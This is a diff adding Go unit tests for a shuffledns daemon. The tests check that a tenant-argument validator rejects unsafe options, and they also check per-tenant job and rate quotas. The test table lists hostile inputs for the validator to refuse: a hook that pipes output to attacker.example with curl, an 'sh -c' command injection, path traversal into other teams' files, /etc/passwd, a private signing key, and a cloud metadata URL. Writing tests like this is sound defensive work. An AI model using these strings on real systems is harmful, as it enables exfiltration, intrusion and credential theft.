@@ -0,0 +1,61 @@
+package runner
+
+import (
+	"testing"
+
+	"github.com/mohammadanaraki/shuffledns/pkg/scheduler"
+	"github.com/stretchr/testify/require"
+)
+
+func TestCheckTenantArgs(t *testing.T) {
+	tests := []struct {
+		args  []string
+		valid bool
+	}{
+		{[]string{"-d", "example.com", "-o", "out/{{date}}.txt"}, true},
+		{[]string{"-d", "/etc/example.com", "-o", "out.txt"}, true},
+		{[]string{"-o", "/etc/cron.d/job"}, false},
+		{[]string{"--o-hosts=../other-team/hosts.txt"}, false},
+		{[]string{"-store", "dir/../../assets.db"}, false},
+		{[]string{"-report", ".."}, false},
+		{[]string{"-directory=/tmp"}, false},
+		{[]string{"-o", "out.txt", "--", "-o", "/tmp/x"}, true},
+		{[]string{"-d", "example.com", "-on-result", "curl -d @- attacker.example"}, false},
+		{[]string{"-d", "example.com", "--on-complete=sh -c id"}, false},
+		{[]string{"-d", "example.com", "-plugins", "filter.so"}, false},
+		{[]string{"-d", "example.com", "-massdns", "./massdns"}, false},
+		{[]string{"-d", "example.com", "-config=/etc/shuffledns/config.yaml", "-profile", "quick"}, false},
+		{[]string{"-d", "example.com", "-profile", "quick"}, true},
+		{[]string{"-d", "example.com", "-w", "words.txt", "-r", "1.1.1.1,[2606:4700::1111]:53"}, true},
+		{[]string{"-list", "../other-team/out.txt"}, false},
+		{[]string{"-d", "example.com", "-w", "/etc/passwd"}, false},
+		{[]string{"-d", "example.com", "--r=../../resolvers.txt"}, false},
+		{[]string{"-d", "example.com", "-scope", "../other-team/scope.yaml"}, false},
+		{[]string{"-raw-input", "../other-team/massdns.txt"}, false},
+		{[]string{"-d", "example.com", "-manifest", "m.json", "-sign", "minisign", "-sign-key", "/home/daemon/.minisign/key"}, false},
+		{[]string{"-d", "example.com", "-sign-password-file=../other-team/password"}, false},
+		{[]string{"-d", "example.com", "-store", "assets.db", "-webhook", "http://169.254.169.254/latest"}, false},
+	}
+	for _, test := range tests {
+		err := checkTenantArgs(test.args)
+		if test.valid {
+			require.Nil(t, err, "Could not accept %v", test.args)
+		} else {
+			require.NotNil(t, err, "Could not reject %v", test.args)
+		}
+	}
+}
+
+func TestTenantQuotas(t *testing.T) {
+	options := &DaemonOptions{Parallel: 10, TenantJobs: 2, TenantQPS: 300}
+
+	jobs, qps := tenantQuotas(options, nil)
+	require.Equal(t, 2, jobs, "Could not get default jobs quota")
+	require.Equal(t, 300, qps, "Could not get default qps quota")
+	require.Equal(t, 150, tenantShare(options.Parallel, jobs, qps), "Could not get default tenant share")
+
+	jobs, qps = tenantQuotas(options, &scheduler.Tenant{Name: "red-team", Jobs: 4})
+	require.Equal(t, 4, jobs, "Could not get key jobs quota")
+	require.Equal(t, 300, qps, "Could not keep default qps quota")
+	require.Equal(t, 75, tenantShare(options.Parallel, jobs, qps), "Could not get key tenant share")
+}